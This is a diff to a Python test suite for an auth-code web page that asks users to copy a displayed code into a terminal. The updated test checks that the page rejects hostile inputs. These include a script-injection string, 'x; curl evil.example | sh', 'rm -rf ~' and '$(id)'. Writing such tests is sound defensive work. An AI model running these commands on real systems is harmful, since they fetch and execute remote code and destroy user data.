@@ -429,12 +429,13 @@ async def test_the_published_key_verifies_id_tokens(world: RelayWorld) -> None:
     assert claims["sub"] == "x"
 
 
-async def test_the_code_page_shows_codes_and_runs_none(world: RelayWorld) -> None:
-    page = await world.http.get("/v2/web/auth-code", params={"code": "<script>alert(1)</script>"})
-    assert "&lt;script&gt;" in page.text
-    assert "<script" not in page.text
+async def test_the_code_page_shows_codes_and_nothing_else(world: RelayWorld) -> None:
+    """It asks people to copy what it shows into a terminal, and anybody can make a link to it."""
+    page = await world.http.get("/v2/web/auth-code", params={"code": "a-Code_of-ours"})
+    assert "a-Code_of-ours" in page.text
     assert "default-src 'none'" in page.headers["content-security-policy"]
-    for query in ({}, {"code": ""}, {"code": "x" * 3000}, {"error": "server_error"}):
+    orders = ("<script>alert(1)</script>", "x; curl evil.example | sh", "x\nrm -rf ~\n", "Call us", "$(id)", "abc\n")
+    for query in ({}, {"code": ""}, {"code": "x" * 3000}, {"error": "server_error"}, *({"code": o} for o in orders)):
         assert (await world.http.get("/v2/web/auth-code", params=query)).status_code == 400
     refused = await world.http.get("/v2/web/auth-code", params={"error": "access_denied"})
     assert "Nothing was allowed" in refused.text
